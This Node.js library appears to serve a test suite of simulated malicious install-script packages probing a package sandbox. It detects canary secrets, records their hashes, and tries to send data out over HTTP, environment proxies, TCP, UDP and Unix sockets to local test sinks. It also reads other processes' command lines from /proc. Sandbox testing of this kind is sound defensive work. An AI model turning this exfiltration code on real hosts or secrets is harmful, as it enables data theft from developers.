'use strict';
// Shared by every attack package. It knows where the host's sinks are (attack.json,
// written into the package when it was packed: the environment cannot tell an install
// script anything, safe-package clears it), finds canary secrets by their shape, sends
// data out through every channel it knows, and records what worked where it ran in
// attack-result.json next to itself: hashes and booleans, never a secret.
//
// Shell and Python payloads use it as a command:
//   node lib.js found   < data    record the hashes of the canaries in data
//   node lib.js batch   < json    {found, did, notes, exfil}: all of the above at once
//   node lib.js exfil   < data    send data through every channel
//   node lib.js did NAME          record that NAME worked
//   node lib.js note TEXT         record a remark (canaries are masked)
//   node lib.js cfg KEY           print a value from attack.json
//   node lib.js running TEXT      exit 0 when a process's command line contains TEXT

const fs = require('fs');
const path = require('path');
const os = require('os');
const net = require('net');
const http = require('http');
const dgram = require('dgram');
const crypto = require('crypto');

const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, 'attack.json'), 'utf8'));
const RESULT = path.join(__dirname, 'attack-result.json');
const CANARY = /spc-[a-z0-9]+-[0-9a-f]{16}/g;

function load() {
  try {
    return JSON.parse(fs.readFileSync(RESULT, 'utf8'));
  } catch {
    return { attack: cfg.attack, found: [], did: {}, notes: [] };
  }
}

const result = load();

function save() {
  fs.writeFileSync(RESULT, JSON.stringify(result, null, 2));
}

function sha256(s) {
  return crypto.createHash('sha256').update(s).digest('hex');
}

/** The canaries in some text (by shape: the attack does not know the nonce). */
function canaries(text) {
  return [...new Set(String(text).match(CANARY) || [])];
}

/** Records the hashes of the canaries in text; returns the canaries. */
function found(text) {
  const list = canaries(text);
  for (const c of list) {
    const h = sha256(c);
    if (!result.found.includes(h)) result.found.push(h);
  }
  return list;
}

function did(what, value = true) {
  result.did[what] = value;
}

function note(message) {
  if (result.notes.length < 40) result.notes.push(String(message).replace(CANARY, '<canary>').slice(0, 300));
}

function home() {
  return process.env.HOME || os.homedir();
}

/** node_modules/<pkg>/ → the project. */
function projectRoot() {
  return path.resolve(__dirname, '..', '..');
}

function readText(file) {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (e) {
    note(`read ${file}: ${e.code || e.message}`);
    return undefined;
  }
}

function settle(promise, ms) {
  // unref: a finished exfil must not keep the process waiting for the deadline
  return Promise.race([promise.catch(() => false), new Promise((r) => setTimeout(() => r(false), ms).unref())]);
}

function streamTo(connectOptions, body) {
  return new Promise((resolve) => {
    const s = net.connect(connectOptions);
    s.on('connect', () => s.end(body));
    s.on('error', () => resolve(false));
    s.on('close', (hadError) => resolve(!hadError));
    s.setTimeout(1500, () => s.destroy());
  });
}

function post(options, body) {
  return new Promise((resolve) => {
    const req = http.request({ method: 'POST', timeout: 1500, ...options }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode === 200));
    });
    req.on('error', () => resolve(false));
    req.on('timeout', () => req.destroy());
    req.end(body);
  });
}

function proxyFromEnv() {
  const p = process.env.HTTP_PROXY || process.env.http_proxy || process.env.HTTPS_PROXY || process.env.https_proxy;
  if (!p) return undefined;
  try {
    const u = new URL(p);
    return { host: u.hostname, port: Number(u.port || 80) };
  } catch {
    return undefined;
  }
}

const channels = {
  http: (body) => post({ host: '127.0.0.1', port: cfg.sinks.http, path: `/exfil/${cfg.attack}` }, body),
  // An HTTP client that honours the proxy settings, asking for the loopback sink by IP.
  proxy: (body) => {
    const proxy = proxyFromEnv();
    if (!proxy) return Promise.resolve(false);
    return post({ host: proxy.host, port: proxy.port, path: `http://127.0.0.1:${cfg.sinks.http}/exfil/${cfg.attack}`, headers: { host: `127.0.0.1:${cfg.sinks.http}` } }, body);
  },
  tcp: (body) => streamTo({ host: '127.0.0.1', port: cfg.sinks.tcp }, body),
  udp: (body) =>
    new Promise((resolve) => {
      const s = dgram.createSocket('udp4');
      s.on('error', () => {
        s.close();
        resolve(false);
      });
      s.send(Buffer.from(body).subarray(0, 60000), cfg.sinks.udp, '127.0.0.1', (err) => {
        s.close();
        resolve(!err);
      });
    }),
  unix: (body) => streamTo({ path: cfg.sinks.unixPath }, body),
  abstract: (body) => streamTo({ path: '\0' + cfg.sinks.abstractName }, body),
};

/** Sends body out through every channel (or the ones named); records which ones took it. */
async function exfil(body, names = Object.keys(channels)) {
  const payload = `attack=${cfg.attack}\n${body}`;
  await Promise.all(
    names.map(async (name) => {
      const ok = await settle(channels[name](payload), 2500);
      if (ok) did(`sent:${name}`);
    }),
  );
}

/** Processes (other than ourselves) whose command line contains `needle`. */
function processesNamed(needle) {
  const out = [];
  for (const entry of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue;
    try {
      const cmdline = fs.readFileSync(`/proc/${entry}/cmdline`, 'utf8').replace(/\0/g, ' ');
      if (cmdline.includes(needle) && !cmdline.includes('lib.js')) out.push(Number(entry));
    } catch {
      /* gone */
    }
  }
  return out;
}

/** Runs an attack body, always leaving attack-result.json behind and exiting 0. */
async function run(body) {
  try {
    await body();
  } catch (e) {
    note(`failed: ${(e && e.message) || e}`);
  }
  save();
  process.exit(0);
}

module.exports = { cfg, canaries, found, did, note, save, home, projectRoot, readText, exfil, processesNamed, run, channels };

if (require.main === module) {
  const [command, arg] = process.argv.slice(2);
  const stdin = () => {
    try {
      return fs.readFileSync(0, 'utf8');
    } catch {
      return '';
    }
  };
  (async () => {
    switch (command) {
      case 'found':
        found(stdin());
        break;
      case 'batch': {
        const b = JSON.parse(stdin());
        for (const t of b.found) found(t);
        for (const d of b.did) did(d);
        for (const n of b.notes) note(n);
        if (b.exfil.length > 0) await exfil(b.exfil.join('\n'));
        break;
      }
      case 'exfil':
        await exfil(stdin());
        break;
      case 'did':
        did(arg);
        break;
      case 'note':
        note(arg);
        break;
      case 'running':
        process.exitCode = processesNamed(arg).length > 0 ? 0 : 1;
        return;
      case 'cfg': {
        const value = arg.split('.').reduce((o, k) => (o == null ? o : o[k]), cfg);
        process.stdout.write(String(value));
        return;
      }
      default:
        throw new Error(`lib.js: unknown command ${command}`);
    }
    save();
  })().catch((e) => {
    note(`lib.js ${command}: ${e.message}`);
    save();
  });
}
